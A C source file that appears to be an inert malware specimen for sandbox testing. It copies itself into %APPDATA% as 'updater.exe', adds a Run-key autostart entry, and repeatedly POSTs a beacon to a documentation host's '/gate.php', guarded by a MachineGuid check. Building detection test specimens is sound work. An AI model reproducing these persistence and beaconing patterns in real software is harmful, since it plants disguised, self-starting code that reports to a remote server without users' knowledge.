/* Copies itself into the user's folder, starts the copy, is started from now on whenever he
 * logs on, and calls home by HTTP every five seconds, a fifth more or less.
 *
 * Inert as all specimens are: the name that it calls is one for documentation, the copy only
 * prints a line, and nothing starts where the guest's identity (MARKER, Windows' MachineGuid)
 * is not that of the sandbox's guest. */
#include <windows.h>
#include <stdio.h>
#include <stdlib.h>
#include <wininet.h>

#ifndef MARKER
#error "the tests say which guest it is for: MARKER"
#endif

/* Its exit code where it refuses to start. */
#define REFUSED 97

static void start_in_the_guest_only(void)
{
	char id[64] = "";
	DWORD size = sizeof id - 1;
	/* Of 64 bits, whatever this program is of. */
	if (RegGetValueA(HKEY_LOCAL_MACHINE, "Software\\Microsoft\\Cryptography", "MachineGuid",
			 RRF_RT_REG_SZ | RRF_SUBKEY_WOW6464KEY, NULL, id, &size) != ERROR_SUCCESS ||
	    strcmp(id, MARKER) != 0)
		ExitProcess(REFUSED);
}

static int call_home(void)
{
	HINTERNET net = InternetOpenA("specimen", INTERNET_OPEN_TYPE_DIRECT, NULL, NULL, 0);
	HINTERNET host = InternetConnectA(net, "home.example.net", 80, NULL, NULL,
					  INTERNET_SERVICE_HTTP, 0, 0);
	HINTERNET ask = HttpOpenRequestA(host, "POST", "/gate.php", NULL, NULL, NULL,
					 INTERNET_FLAG_RELOAD | INTERNET_FLAG_NO_COOKIES, 0);
	char body[] = "id=0042";
	BOOL sent = ask && HttpSendRequestA(ask, NULL, 0, body, sizeof body - 1);
	InternetCloseHandle(ask);
	InternetCloseHandle(host);
	InternetCloseHandle(net);
	return sent;
}

int main(int argc, char **argv)
{
	(void)argv;
	start_in_the_guest_only();
	if (argc > 1) {
		printf("the copy runs\n");
		return 0;
	}
	char own[MAX_PATH], copy[MAX_PATH], line[MAX_PATH + 16];
	GetModuleFileNameA(NULL, own, sizeof own);
	ExpandEnvironmentStringsA("%APPDATA%\\updater.exe", copy, sizeof copy);
	if (!CopyFileA(own, copy, FALSE))
		return 10;
	HKEY run;
	if (RegCreateKeyA(HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run",
			  &run) != ERROR_SUCCESS ||
	    RegSetValueExA(run, "Updater", 0, REG_SZ, (BYTE *)copy, strlen(copy) + 1) != ERROR_SUCCESS)
		return 11;
	RegCloseKey(run);
	STARTUPINFOA start = { .cb = sizeof start };
	PROCESS_INFORMATION made;
	snprintf(line, sizeof line, "\"%s\" again", copy);
	if (!CreateProcessA(copy, line, NULL, NULL, FALSE, 0, NULL, NULL, &start, &made))
		return 12;
	WaitForSingleObject(made.hProcess, 30000);
	srand(GetTickCount());
	for (int number = 0; number < 8; number++) {
		if (!call_home())
			return 13;
		Sleep(4000 + rand() % 2000);
	}
	return 0;
}
